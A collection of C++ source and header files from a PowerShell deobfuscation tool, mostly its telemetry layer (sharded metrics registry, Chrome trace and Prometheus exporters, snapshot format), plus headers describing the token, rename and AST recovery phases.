  for (Shard& s : shards_) {
    for (auto& b : s.buckets) b.store(0, std::memory_order_relaxed);
    s.count.store(0, std::memory_order_relaxed);
    s.sum_ns.store(0, std::memory_order_relaxed);
  }
}

namespace {
std::string full_name(std::string_view base, std::string_view labels) {
  std::string key(base);
  if (!labels.empty()) {
    key += '{';
    key += labels;
    key += '}';
  }
  return key;
}

/// Splits "base{labels}" back into its parts for snapshots.
std::pair<std::string, std::string> split_name(const std::string& key) {
  const std::size_t brace = key.find('{');
  if (brace == std::string::npos) return {key, std::string()};
  return {key.substr(0, brace),
          key.substr(brace + 1, key.size() - brace - 2)};
}
}  // namespace

template <typename M>
M& MetricsRegistry::intern(
    std::map<std::string, std::unique_ptr<M>, std::less<>>& map,
    std::string_view base, std::string_view labels) {
  const std::string key = full_name(base, labels);
  std::lock_guard lock(mu_);
  auto it = map.find(key);
  if (it == map.end()) {
    it = map.emplace(key, std::make_unique<M>()).first;
  }
  return *it->second;
}

Counter& MetricsRegistry::counter(std::string_view base,
                                  std::string_view labels) {
  return intern(counters_, base, labels);
}

Gauge& MetricsRegistry::gauge(std::string_view base, std::string_view labels) {
  return intern(gauges_, base, labels);
}

Histogram& MetricsRegistry::histogram(std::string_view base,
                                      std::string_view labels) {
  return intern(histograms_, base, labels);
}

void MetricsRegistry::reset() {
  std::lock_guard lock(mu_);
  for (auto& [name, c] : counters_) c->reset();
  for (auto& [name, g] : gauges_) g->reset();
  for (auto& [name, h] : histograms_) h->reset();
}

RegistrySnapshot MetricsRegistry::snapshot() const {
  RegistrySnapshot snap;
  std::lock_guard lock(mu_);
  for (const auto& [name, c] : counters_) {
    auto [base, labels] = split_name(name);
    snap.counters.push_back({std::move(base), std::move(labels), c->value()});
  }
  for (const auto& [name, g] : gauges_) {
    auto [base, labels] = split_name(name);
    snap.gauges.push_back({std::move(base), std::move(labels), g->value()});
  }
  for (const auto& [name, h] : histograms_) {
    auto [base, labels] = split_name(name);
    RegistrySnapshot::HistogramSample sample;
    sample.base = std::move(base);
    sample.labels = std::move(labels);
    for (std::size_t i = 0; i < Histogram::kBucketCount; ++i) {
      sample.buckets[i] = h->bucket_value(i);
    }
    sample.count = h->count();
    sample.sum_ns = h->sum_ns();
    snap.histograms.push_back(std::move(sample));
  }
  return snap;
}

MetricsRegistry& registry() {
  // Deliberately leaked: pool threads and arena freelists may still record
  // during static destruction.
  static MetricsRegistry* g_registry = new MetricsRegistry();
  return *g_registry;
}

}  // namespace ideobf::telemetry
