#include "telemetry/chrome_trace.h"

#include <algorithm>
#include <cstdio>
#include <limits>

namespace ideobf::telemetry {

namespace {

/// Minimal JSON string escape (details are identifiers, but be safe).
void append_json_escaped(std::string& out, std::string_view s) {
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(c);
        }
    }
  }
}

void append_microseconds(std::string& out, std::uint64_t ns) {
  // Chrome trace timestamps are microseconds; keep nanosecond precision
  // with a fixed three-decimal fraction.
  char buf[40];
  std::snprintf(buf, sizeof(buf), "%llu.%03llu",
                static_cast<unsigned long long>(ns / 1000),
                static_cast<unsigned long long>(ns % 1000));
  out += buf;
}

}  // namespace

TraceRecorder::TraceRecorder(std::size_t max_events)
    : max_events_(max_events == 0 ? 1 : max_events) {}

void TraceRecorder::record(Phase phase, std::string_view detail,
                           std::uint64_t start_ns, std::uint64_t dur_ns) {
  if (recorded_.fetch_add(1, std::memory_order_relaxed) >= max_events_) {
    recorded_.fetch_sub(1, std::memory_order_relaxed);
    dropped_.fetch_add(1, std::memory_order_relaxed);
    return;
  }
  Lane& lane = lanes_[current_shard()];
  std::lock_guard lock(lane.mu);
  lane.events.push_back(Event{phase, detail, start_ns, dur_ns});
}

std::size_t TraceRecorder::event_count() const {
  return recorded_.load(std::memory_order_relaxed);
}

std::vector<std::pair<unsigned, TraceRecorder::Event>>
TraceRecorder::snapshot_events() const {
  std::vector<std::pair<unsigned, Event>> out;
  for (unsigned lane = 0; lane < kShardCount; ++lane) {
    std::lock_guard lock(lanes_[lane].mu);
    for (const Event& e : lanes_[lane].events) out.emplace_back(lane, e);
  }
  return out;
}

std::string TraceRecorder::render() const {
  const auto events = snapshot_events();
  std::uint64_t epoch = std::numeric_limits<std::uint64_t>::max();
  for (const auto& [lane, e] : events) epoch = std::min(epoch, e.start_ns);
  if (events.empty()) epoch = 0;

  std::string out;
  out.reserve(events.size() * 96 + 512);
  out += "{\"displayTimeUnit\":\"ms\",\"truncated\":";
  out += truncated() ? "true" : "false";
  out += ",\"droppedEvents\":";
  out += std::to_string(dropped());
  out += ",\"traceEvents\":[";

  bool first = true;
  const auto comma = [&] {
    if (!first) out += ',';
    first = false;
  };

  // One lane per worker slot, named so Perfetto shows "slot N" tracks.
  std::array<bool, kShardCount> occupied{};
  for (const auto& [lane, e] : events) occupied[lane] = true;
  for (unsigned lane = 0; lane < kShardCount; ++lane) {
    if (!occupied[lane]) continue;
    comma();
    out += "{\"ph\":\"M\",\"pid\":1,\"tid\":";
    out += std::to_string(lane + 1);
    out += ",\"name\":\"thread_name\",\"args\":{\"name\":\"slot ";
    out += std::to_string(lane);
    out += "\"}}";
  }

  for (const auto& [lane, e] : events) {
    comma();
    out += "{\"ph\":\"X\",\"pid\":1,\"tid\":";
    out += std::to_string(lane + 1);
    out += ",\"cat\":\"pipeline\",\"name\":\"";
    append_json_escaped(out, phase_name(e.phase));
    out += "\",\"ts\":";
    append_microseconds(out, e.start_ns - epoch);
    out += ",\"dur\":";
    append_microseconds(out, e.dur_ns);
    if (!e.detail.empty()) {
      out += ",\"args\":{\"detail\":\"";
      append_json_escaped(out, e.detail);
      out += "\"}";
    }
    out += '}';
  }
  out += "]}";
  return out;
}

void TraceRecorder::clear() {
  for (Lane& lane : lanes_) {
    std::lock_guard lock(lane.mu);
    lane.events.clear();
  }
  recorded_.store(0, std::memory_order_relaxed);
  dropped_.store(0, std::memory_order_relaxed);
}

}  // namespace ideobf::telemetry
