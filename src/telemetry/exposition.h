#pragma once

/// \file exposition.h
/// Prometheus-style text exposition of a MetricsRegistry: `# TYPE` comment
/// per metric family, `_bucket{...,le="..."}` / `_sum` / `_count` triplets
/// for histograms (cumulative buckets, seconds), plain `name{labels} value`
/// lines for counters and gauges. Deterministic order (the registry
/// iterates name-sorted), so two runs over the same work diff cleanly.

#include <string>

#include "telemetry/metrics.h"

namespace ideobf::telemetry {

/// Renders the whole registry.
std::string render_prometheus(const MetricsRegistry& registry);

/// Renders an explicit snapshot (tests build these by hand).
std::string render_prometheus(const RegistrySnapshot& snapshot);

}  // namespace ideobf::telemetry
