#pragma once

/// \file exposition.h
/// Prometheus-style text exposition of a MetricsRegistry: `# HELP` (for
/// cataloged ideobf metrics) and `# TYPE` comments per metric family,
/// `_bucket{...,le="..."}` / `_sum` / `_count` triplets for histograms
/// (cumulative buckets, seconds), plain `name{labels} value` lines for
/// counters and gauges. Deterministic order (the registry iterates
/// name-sorted), so two runs over the same work diff cleanly.

#include <string>
#include <string_view>

#include "telemetry/metrics.h"

namespace ideobf::telemetry {

/// Escapes a label *value* per the Prometheus text format: backslash,
/// double-quote, and newline become `\\`, `\"`, and `\n`. Label bodies are
/// stored pre-assembled (`kind="timeout"`), so escaping must happen where a
/// dynamic value is interpolated — use this (or prom_label) there, never
/// splice raw text into a label body.
std::string escape_label_value(std::string_view value);

/// Builds one `name="value"` label pair with the value escaped.
std::string prom_label(std::string_view name, std::string_view value);

/// The `# HELP` text for a cataloged metric base name; empty for names the
/// catalog does not know (private/test registries render without HELP).
std::string_view metric_help(std::string_view base);

/// Renders the whole registry.
std::string render_prometheus(const MetricsRegistry& registry);

/// Renders an explicit snapshot (tests build these by hand).
std::string render_prometheus(const RegistrySnapshot& snapshot);

}  // namespace ideobf::telemetry
