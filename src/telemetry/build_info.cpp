#include "telemetry/build_info.h"

#include <chrono>

#include "telemetry/exposition.h"
#include "telemetry/metrics.h"

#ifndef IDEOBF_VERSION
#define IDEOBF_VERSION "unknown"
#endif
#ifndef IDEOBF_GIT_SHA
#define IDEOBF_GIT_SHA "unknown"
#endif

namespace ideobf::telemetry {

namespace {

std::chrono::steady_clock::time_point process_start() {
  static const auto g_start = std::chrono::steady_clock::now();
  return g_start;
}

Gauge& uptime_gauge() {
  static Gauge& g = registry().gauge("ideobf_server_uptime_seconds");
  return g;
}

}  // namespace

std::string_view build_version() { return IDEOBF_VERSION; }
std::string_view build_git_sha() { return IDEOBF_GIT_SHA; }

void register_build_info() {
  process_start();  // pin the uptime epoch on first call
  static Gauge& info = []() -> Gauge& {
    std::string labels = prom_label("git_sha", build_git_sha());
    labels += ',';
    labels += prom_label("version", build_version());
    return registry().gauge("ideobf_build_info", labels);
  }();
  info.set(1);
  update_uptime_gauge();
}

double process_uptime_seconds() {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       process_start())
      .count();
}

void update_uptime_gauge() {
  uptime_gauge().set(static_cast<std::int64_t>(process_uptime_seconds()));
}

}  // namespace ideobf::telemetry
