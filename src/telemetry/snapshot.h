#pragma once

/// \file snapshot.h
/// Durable registry snapshots for fleet-wide metric aggregation. Each worker
/// process serializes its own RegistrySnapshot to
/// `state-dir/metrics.<worker>` (atomic tmp+rename, same idiom as
/// fleet.json) on demand and on SIGHUP; any worker answering a
/// `{"op":"metrics","scope":"fleet"}` request parses its siblings' files and
/// merges them with its own live registry.
///
/// The format is line-based text, not JSON — the telemetry library is a leaf
/// (std-only) and the records are write-once/parse-once:
///
///   ideobf-metrics-snapshot v1
///   meta <worker> <unix_seconds> <requests_total>
///   c <value> <base> <labels|->
///   g <value> <base> <labels|->
///   h <count> <sum_ns> <b0> .. <b22> <base> <labels|->
///
/// Tokens are space-separated; the label body is escaped (`\\`, `\s` for
/// space, `\n`, `\t`) and `-` stands for "no labels". Unknown record kinds
/// are skipped, so the format can grow without breaking old readers.

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "telemetry/metrics.h"

namespace ideobf::telemetry {

/// One worker's snapshot plus the identity/header facts the supervisor
/// surfaces in fleet.json.
struct MetricsSnapshotFile {
  int worker = -1;
  std::uint64_t unix_seconds = 0;    ///< wall clock at dump time
  std::uint64_t requests_total = 0;  ///< requests this worker has accepted
  RegistrySnapshot snapshot;
};

std::string serialize_snapshot(const MetricsSnapshotFile& file);

/// Parses a full snapshot. False (with a reason) on a bad magic/header;
/// malformed sample lines are skipped, not fatal — a torn concurrent writer
/// must never take down a fleet scrape.
bool parse_snapshot(std::string_view text, MetricsSnapshotFile& out,
                    std::string& error);

/// Header-only parse (magic + `meta` line); cheap enough for every
/// fleet.json rewrite.
bool parse_snapshot_header(std::string_view text, MetricsSnapshotFile& out);

/// Merges per-worker snapshots into one fleet view: for every series, a
/// fleet-wide sample summed across workers under the original label body,
/// plus one per-worker sample with `worker="N"` appended (escaped via
/// prom_label). Output is sorted by (base, labels) so same-base samples stay
/// adjacent and the exposition renderer emits one TYPE line per family.
RegistrySnapshot merge_snapshots(const std::vector<MetricsSnapshotFile>& files);

/// Writes `content` to `path` atomically (tmp + rename, 0600). False with a
/// reason on any I/O failure.
bool write_file_atomic(const std::string& path, std::string_view content,
                       std::string& error);

}  // namespace ideobf::telemetry
