#pragma once

/// \file metrics.h
/// Process-wide metrics registry: lock-free counters, gauges, and
/// fixed-bucket latency histograms, sharded so batch worker threads never
/// contend and merged on read.
///
/// Design constraints, in priority order:
///  1. Telemetry off must cost ~nothing. Every recording call starts with a
///     single relaxed atomic load of the global enabled flag and returns on
///     the cold branch; no clock is read, no cell is touched.
///  2. Enabled recording must never contend. Each metric owns one
///     cache-line-padded cell per shard; a thread writes only its own shard
///     (bound to its WorkerPool slot by deobfuscate_batch, or assigned
///     round-robin on first use) with relaxed atomics. Readers sum the
///     shards, so reads are racy-but-monotonic snapshots — exactly what an
///     exposition endpoint wants.
///  3. Handles are stable. Registration interns by name under a mutex (rare,
///     typically once per call site via a function-local static); the
///     returned reference stays valid for the process lifetime.

#include <array>
#include <atomic>
#include <cstddef>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace ideobf::telemetry {

/// Number of metric shards. deobfuscate_batch binds each pool slot to shard
/// `slot % kShardCount`; unbound threads are assigned round-robin.
inline constexpr unsigned kShardCount = 16;

namespace detail {
extern std::atomic<bool> g_enabled;
}  // namespace detail

/// Whether telemetry is recording. One relaxed load; the hot-path gate.
inline bool enabled() {
  return detail::g_enabled.load(std::memory_order_relaxed);
}
void set_enabled(bool on);

/// The calling thread's metric shard (assigned round-robin on first use).
unsigned current_shard();
/// Binds the calling thread to shard `slot % kShardCount` (how batch workers
/// get one shard per pool slot, making per-slot cells uncontended).
void set_current_shard(unsigned slot);

/// Monotonically increasing event count.
class Counter {
 public:
  void add(std::uint64_t n = 1) {
    if (!enabled()) return;
    add_unguarded(n);
  }
  /// Records even when telemetry is disabled. Used only where a pair of
  /// counters must stay balanced across an enable/disable edge (a span
  /// opened while enabled must still count its close).
  void add_unguarded(std::uint64_t n = 1) {
    cells_[current_shard()].v.fetch_add(n, std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t value() const;  ///< merged across shards
  [[nodiscard]] std::uint64_t shard_value(unsigned shard) const;
  void reset();

 private:
  struct alignas(64) Cell {
    std::atomic<std::uint64_t> v{0};
  };
  Cell cells_[kShardCount];
};

/// Up/down counter (current in-flight items, resident bytes, ...). Each
/// shard accumulates signed deltas; the merged value is their sum.
class Gauge {
 public:
  void add(std::int64_t delta = 1) {
    if (!enabled()) return;
    cells_[current_shard()].v.fetch_add(delta, std::memory_order_relaxed);
  }
  void sub(std::int64_t delta = 1) { add(-delta); }
  /// Absolute set: zeroes every shard and stores `v` in shard 0. Single
  /// writer only (scrape-time series such as uptime or an info gauge's
  /// constant 1); deliberately not gated on enabled() so hygiene series
  /// exist even when the scrape itself enabled telemetry a moment ago.
  void set(std::int64_t v);
  [[nodiscard]] std::int64_t value() const;  ///< merged across shards
  void reset();

 private:
  struct alignas(64) Cell {
    std::atomic<std::int64_t> v{0};
  };
  Cell cells_[kShardCount];
};

/// Fixed-bucket latency histogram. Bucket boundaries are a hard-coded
/// 1-2.5-5 log ladder from 1 µs to 10 s (phase latencies span ~7 decades:
/// a token pass on a one-liner is microseconds, a hostile recovery rung is
/// seconds); the last bucket is the +Inf overflow. Fixed buckets keep the
/// record path allocation-free and make cross-shard merge a plain sum.
class Histogram {
 public:
  static constexpr std::size_t kBucketCount = 23;
  /// Upper bounds (inclusive) of buckets 0..kBucketCount-2, nanoseconds;
  /// bucket kBucketCount-1 is +Inf.
  static const std::array<std::uint64_t, kBucketCount - 1>& bounds_ns();
  static std::size_t bucket_index(std::uint64_t ns);

  void observe_ns(std::uint64_t ns) {
    if (!enabled()) return;
    Shard& s = shards_[current_shard()];
    s.buckets[bucket_index(ns)].fetch_add(1, std::memory_order_relaxed);
    s.count.fetch_add(1, std::memory_order_relaxed);
    s.sum_ns.fetch_add(ns, std::memory_order_relaxed);
  }
  void observe_seconds(double seconds) {
    if (!enabled()) return;
    observe_ns(seconds <= 0.0 ? 0
                              : static_cast<std::uint64_t>(seconds * 1e9));
  }

  /// Merged (non-cumulative) count of bucket `i`.
  [[nodiscard]] std::uint64_t bucket_value(std::size_t i) const;
  [[nodiscard]] std::uint64_t count() const;
  [[nodiscard]] std::uint64_t sum_ns() const;
  [[nodiscard]] double sum_seconds() const {
    return static_cast<double>(sum_ns()) / 1e9;
  }
  void reset();

 private:
  struct alignas(64) Shard {
    std::atomic<std::uint64_t> buckets[kBucketCount] = {};
    std::atomic<std::uint64_t> count{0};
    std::atomic<std::uint64_t> sum_ns{0};
  };
  Shard shards_[kShardCount];
};

/// Read-only snapshot of the registry for exporters and tests.
struct RegistrySnapshot {
  struct CounterSample {
    std::string base;    ///< metric name, e.g. "ideobf_parse_cache_hit_total"
    std::string labels;  ///< label body without braces, e.g. kind="timeout"
    std::uint64_t value = 0;
  };
  struct GaugeSample {
    std::string base;
    std::string labels;
    std::int64_t value = 0;
  };
  struct HistogramSample {
    std::string base;
    std::string labels;
    std::array<std::uint64_t, Histogram::kBucketCount> buckets{};
    std::uint64_t count = 0;
    std::uint64_t sum_ns = 0;
  };
  std::vector<CounterSample> counters;
  std::vector<GaugeSample> gauges;
  std::vector<HistogramSample> histograms;
};

/// Name-interning registry. `counter("x_total", "kind=\"timeout\"")` returns
/// the same handle for the same (base, labels) pair forever; call sites
/// cache the reference in a function-local static so the mutex is paid once.
class MetricsRegistry {
 public:
  Counter& counter(std::string_view base, std::string_view labels = {});
  Gauge& gauge(std::string_view base, std::string_view labels = {});
  Histogram& histogram(std::string_view base, std::string_view labels = {});

  /// Zeroes every cell of every registered metric. Handles stay valid —
  /// this resets values, it does not unregister (benches and tests isolate
  /// measurement windows with it).
  void reset();

  [[nodiscard]] RegistrySnapshot snapshot() const;

 private:
  template <typename M>
  M& intern(std::map<std::string, std::unique_ptr<M>, std::less<>>& map,
            std::string_view base, std::string_view labels);

  mutable std::mutex mu_;
  // Keyed by "base{labels}" (or bare base); std::map for deterministic
  // exposition order.
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>, std::less<>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
};

/// The process-wide registry (never destroyed: worker threads may record
/// during static teardown).
MetricsRegistry& registry();

}  // namespace ideobf::telemetry
