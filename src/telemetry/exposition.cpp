#include "telemetry/exposition.h"

#include <cstdio>
#include <string_view>

namespace ideobf::telemetry {

namespace {

/// HELP text per cataloged base name. Only metrics this repo actually
/// registers appear here (the metrics-catalog lint keeps the docs in sync);
/// unknown bases — private test registries — render without a HELP line.
struct HelpEntry {
  std::string_view base;
  std::string_view help;
};

constexpr HelpEntry kHelpCatalog[] = {
    {"ideobf_batch_degraded_total", "Batch items served from a rung > 0."},
    {"ideobf_batch_failed_total", "Batch items that failed."},
    {"ideobf_batch_item_total", "Batch items processed."},
    {"ideobf_build_info",
     "Constant 1; the version and git_sha labels identify the build."},
    {"ideobf_fault_injected_total", "Injected faults fired, by site."},
    {"ideobf_fleet_admission_rejected_total",
     "Requests refused by the per-client token bucket."},
    {"ideobf_fleet_cache_corrupt_total",
     "Shared-cache entries whose checksum failed verification."},
    {"ideobf_fleet_cache_hit_seconds",
     "Shared response-cache hit round-trip latency."},
    {"ideobf_fleet_cache_requests_total",
     "Shared response-cache lookups by outcome."},
    {"ideobf_fleet_cache_stores_total",
     "Responses published into the shared cache."},
    {"ideobf_fleet_quarantined_total",
     "Requests refused because their script hash is quarantined."},
    {"ideobf_fleet_reloads_total",
     "SIGHUP config/quarantine reloads applied by this worker."},
    {"ideobf_governor_attempt_total", "Ladder attempts, first try included."},
    {"ideobf_governor_degraded_total", "Items served from rung > 0."},
    {"ideobf_governor_failure_total", "Aborted attempts by FailureKind."},
    {"ideobf_governor_ladder_step_total", "Retries at rung > 0."},
    {"ideobf_governor_passthrough_total", "Rung-3 passthroughs."},
    {"ideobf_multilayer_unwrap_total", "Layers unwrapped, by disguise form."},
    {"ideobf_parse_cache_bypass_total",
     "Parse-cache lookups bypassed (oversized input not cached)."},
    {"ideobf_parse_cache_eviction_total", "Parse-cache evictions."},
    {"ideobf_parse_cache_hit_total", "Parse-cache hits."},
    {"ideobf_parse_cache_lookup_total", "ParseCache::get calls."},
    {"ideobf_parse_cache_miss_total", "Parse-cache misses."},
    {"ideobf_phase_seconds", "Pipeline phase latency, by phase."},
    {"ideobf_recovery_memo_hit_total", "Recovery-memo hits."},
    {"ideobf_recovery_memo_lookup_total", "Recovery-memo lookups."},
    {"ideobf_recovery_memo_miss_total", "Recovery-memo misses."},
    {"ideobf_recovery_piece_total", "Pieces executed, by AST node kind."},
    {"ideobf_sandbox_failure_total", "Whole-script sandbox failures."},
    {"ideobf_sandbox_run_total", "Whole-script sandbox executions."},
    {"ideobf_server_connections_total",
     "Client connections accepted by the daemon."},
    {"ideobf_server_disconnect_cancel_total",
     "In-flight or queued requests cancelled by their client hanging up."},
    {"ideobf_server_epoll_wakeups_total",
     "Event-loop wakeups with at least one ready fd."},
    {"ideobf_server_idle_reaped_total",
     "Connections reaped by the idle timeout."},
    {"ideobf_server_outbuf_bytes",
     "Bytes currently buffered toward clients across all connections."},
    {"ideobf_server_queue_depth",
     "Requests currently queued in the daemon."},
    {"ideobf_server_queue_wait_seconds",
     "Time an admitted request waited in the queue before a worker slot."},
    {"ideobf_server_reaped_total", "Connections reaped, by reason."},
    {"ideobf_server_request_seconds", "Engine time per served request."},
    {"ideobf_server_requests_total", "Serve requests, by final status."},
    {"ideobf_server_uptime_seconds",
     "Seconds since this server process started."},
    {"ideobf_server_watchdog_cancel_total",
     "Requests hard-cancelled by the serve watchdog."},
    {"ideobf_telemetry_deep_spans_total",
     "Spans past the per-thread child-accounting depth."},
    {"ideobf_telemetry_log_dropped_total",
     "Structured log records dropped by the rate limiter."},
    {"ideobf_telemetry_log_emitted_total",
     "Structured log records written, by level."},
    {"ideobf_telemetry_spans_closed_total", "PhaseSpans closed."},
    {"ideobf_telemetry_spans_opened_total", "PhaseSpans opened."},
    {"ideobf_watchdog_cancel_total",
     "Items hard-cancelled by the batch watchdog."},
    {"ideobf_worker_id",
     "Constant 1; the worker label names this process's fleet slot."},
};

void append_type_line(std::string& out, std::string_view base,
                      std::string_view type, std::string& last_base) {
  if (last_base == base) return;
  last_base.assign(base);
  const std::string_view help = metric_help(base);
  if (!help.empty()) {
    out += "# HELP ";
    out += base;
    out += ' ';
    out += help;
    out += '\n';
  }
  out += "# TYPE ";
  out += base;
  out += ' ';
  out += type;
  out += '\n';
}

void append_name(std::string& out, std::string_view base,
                 std::string_view labels) {
  out += base;
  if (!labels.empty()) {
    out += '{';
    out += labels;
    out += '}';
  }
}

/// Label body with `le="<seconds>"` appended (histogram bucket lines).
void append_bucket_name(std::string& out, std::string_view base,
                        std::string_view labels, std::string_view le) {
  out += base;
  out += "_bucket{";
  if (!labels.empty()) {
    out += labels;
    out += ',';
  }
  out += "le=\"";
  out += le;
  out += "\"}";
}

std::string seconds_text(std::uint64_t bound_ns) {
  char buf[40];
  std::snprintf(buf, sizeof(buf), "%g",
                static_cast<double>(bound_ns) / 1e9);
  return buf;
}

std::string double_text(double v) {
  char buf[48];
  std::snprintf(buf, sizeof(buf), "%.9g", v);
  return buf;
}

}  // namespace

std::string escape_label_value(std::string_view value) {
  std::string out;
  out.reserve(value.size());
  for (const char c : value) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      default: out += c; break;
    }
  }
  return out;
}

std::string prom_label(std::string_view name, std::string_view value) {
  std::string out(name);
  out += "=\"";
  out += escape_label_value(value);
  out += '"';
  return out;
}

std::string_view metric_help(std::string_view base) {
  for (const HelpEntry& e : kHelpCatalog) {
    if (e.base == base) return e.help;
  }
  return {};
}

std::string render_prometheus(const RegistrySnapshot& snapshot) {
  std::string out;
  out.reserve(4096);
  std::string last_base;

  for (const auto& c : snapshot.counters) {
    append_type_line(out, c.base, "counter", last_base);
    append_name(out, c.base, c.labels);
    out += ' ';
    out += std::to_string(c.value);
    out += '\n';
  }

  last_base.clear();
  for (const auto& g : snapshot.gauges) {
    append_type_line(out, g.base, "gauge", last_base);
    append_name(out, g.base, g.labels);
    out += ' ';
    out += std::to_string(g.value);
    out += '\n';
  }

  last_base.clear();
  const auto& bounds = Histogram::bounds_ns();
  for (const auto& h : snapshot.histograms) {
    append_type_line(out, h.base, "histogram", last_base);
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < Histogram::kBucketCount; ++i) {
      cumulative += h.buckets[i];
      append_bucket_name(out, h.base, h.labels,
                         i + 1 < Histogram::kBucketCount
                             ? seconds_text(bounds[i])
                             : std::string_view("+Inf"));
      out += ' ';
      out += std::to_string(cumulative);
      out += '\n';
    }
    append_name(out, std::string(h.base) + "_sum", h.labels);
    out += ' ';
    out += double_text(static_cast<double>(h.sum_ns) / 1e9);
    out += '\n';
    append_name(out, std::string(h.base) + "_count", h.labels);
    out += ' ';
    out += std::to_string(h.count);
    out += '\n';
  }
  return out;
}

std::string render_prometheus(const MetricsRegistry& registry) {
  return render_prometheus(registry.snapshot());
}

}  // namespace ideobf::telemetry
