#include "telemetry/exposition.h"

#include <cstdio>
#include <string_view>

namespace ideobf::telemetry {

namespace {

void append_type_line(std::string& out, std::string_view base,
                      std::string_view type, std::string& last_base) {
  if (last_base == base) return;
  last_base.assign(base);
  out += "# TYPE ";
  out += base;
  out += ' ';
  out += type;
  out += '\n';
}

void append_name(std::string& out, std::string_view base,
                 std::string_view labels) {
  out += base;
  if (!labels.empty()) {
    out += '{';
    out += labels;
    out += '}';
  }
}

/// Label body with `le="<seconds>"` appended (histogram bucket lines).
void append_bucket_name(std::string& out, std::string_view base,
                        std::string_view labels, std::string_view le) {
  out += base;
  out += "_bucket{";
  if (!labels.empty()) {
    out += labels;
    out += ',';
  }
  out += "le=\"";
  out += le;
  out += "\"}";
}

std::string seconds_text(std::uint64_t bound_ns) {
  char buf[40];
  std::snprintf(buf, sizeof(buf), "%g",
                static_cast<double>(bound_ns) / 1e9);
  return buf;
}

std::string double_text(double v) {
  char buf[48];
  std::snprintf(buf, sizeof(buf), "%.9g", v);
  return buf;
}

}  // namespace

std::string render_prometheus(const RegistrySnapshot& snapshot) {
  std::string out;
  out.reserve(4096);
  std::string last_base;

  for (const auto& c : snapshot.counters) {
    append_type_line(out, c.base, "counter", last_base);
    append_name(out, c.base, c.labels);
    out += ' ';
    out += std::to_string(c.value);
    out += '\n';
  }

  last_base.clear();
  for (const auto& g : snapshot.gauges) {
    append_type_line(out, g.base, "gauge", last_base);
    append_name(out, g.base, g.labels);
    out += ' ';
    out += std::to_string(g.value);
    out += '\n';
  }

  last_base.clear();
  const auto& bounds = Histogram::bounds_ns();
  for (const auto& h : snapshot.histograms) {
    append_type_line(out, h.base, "histogram", last_base);
    std::uint64_t cumulative = 0;
    for (std::size_t i = 0; i < Histogram::kBucketCount; ++i) {
      cumulative += h.buckets[i];
      append_bucket_name(out, h.base, h.labels,
                         i + 1 < Histogram::kBucketCount
                             ? seconds_text(bounds[i])
                             : std::string_view("+Inf"));
      out += ' ';
      out += std::to_string(cumulative);
      out += '\n';
    }
    append_name(out, std::string(h.base) + "_sum", h.labels);
    out += ' ';
    out += double_text(static_cast<double>(h.sum_ns) / 1e9);
    out += '\n';
    append_name(out, std::string(h.base) + "_count", h.labels);
    out += ' ';
    out += std::to_string(h.count);
    out += '\n';
  }
  return out;
}

std::string render_prometheus(const MetricsRegistry& registry) {
  return render_prometheus(registry.snapshot());
}

}  // namespace ideobf::telemetry
