#pragma once

/// \file rename.h
/// Phase 3a of Invoke-Deobfuscation (paper section III-C): statistical
/// detection of randomized identifiers and substitution with var{n} /
/// func{n}, numbered by order of first appearance.

#include <string>
#include <string_view>

#include "core/trace.h"

namespace ideobf {

// RenameStats moved to the public facade (include/ideobf/report.h),
// which core/trace.h re-exports.

/// Renames randomized variable/function names. Automatic, environment and
/// scope-qualified variables are untouched. Returns the input unchanged when
/// the joint name statistics look like normal English or on parse failure.
std::string rename_pass(std::string_view script, RenameStats* stats = nullptr,
                        TraceSink* trace = nullptr);

}  // namespace ideobf
