#pragma once

/// \file token_pass.h
/// Phase 1 of Invoke-Deobfuscation (paper section III-A): token parsing.
/// Uses token attributes to undo L1 obfuscation — ticking, random case and
/// aliases — replacing each recovered token in place, in reverse order so
/// earlier extents stay valid.

#include <string>
#include <string_view>

#include "core/trace.h"

namespace ideobf {

// TokenPassStats moved to the public facade (include/ideobf/report.h),
// which core/trace.h re-exports.

/// Returns the token-normalized script. If the input does not tokenize, it
/// is returned unchanged (the caller's per-step syntax check).
std::string token_pass(std::string_view script, TokenPassStats* stats = nullptr,
                       TraceSink* trace = nullptr);

/// Canonical presentation of a cmdlet name: known cmdlets resolve through
/// the alias/canonical table; unknown mixed-case words are lowercased.
std::string canonical_command_name(std::string_view name);

}  // namespace ideobf
