#pragma once

/// \file recovery.h
/// Phase 2 of Invoke-Deobfuscation (paper section III-B): recovery based on
/// AST. Identifies recoverable nodes, traces variables (Algorithm 1),
/// executes recoverable pieces through the Invoke substrate with the
/// execution blocklist, and reconstructs the script by post-order in-place
/// replacement.

#include <array>
#include <atomic>
#include <cstddef>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "core/trace.h"
#include "psvalue/budget.h"
#include "psvalue/value.h"

namespace ps {
class Budget;
class ParseCache;
class ParsedScript;
class ScriptBlockAst;
}  // namespace ps

namespace ideobf {

class FaultInjector;

// RecoveryStats moved to the public facade (include/ideobf/report.h),
// which core/trace.h re-exports.

/// Memoizes sandbox executions of recoverable pieces: the same obfuscated
/// fragment under the same traced-variable context is executed once, not
/// once per occurrence per layer per fixed-point pass — nor once per worker
/// slot or server session. Keyed by the piece text plus a fingerprint of
/// everything that can influence its evaluation (visible symbol-table
/// entries, loaded function definitions, and the execution
/// limits/blocklist). An empty memoized literal records "known
/// unrecoverable", so failed executions are not retried either; because the
/// limits are part of the fingerprint, a tight-limit failure never masks a
/// full-limit success.
///
/// Thread-safe and content-addressed: the table is sharded by key hash with
/// one mutex per shard, so one memo is shared engine-wide — across every
/// WorkerPool slot of a batch and every Session of the serve daemon.
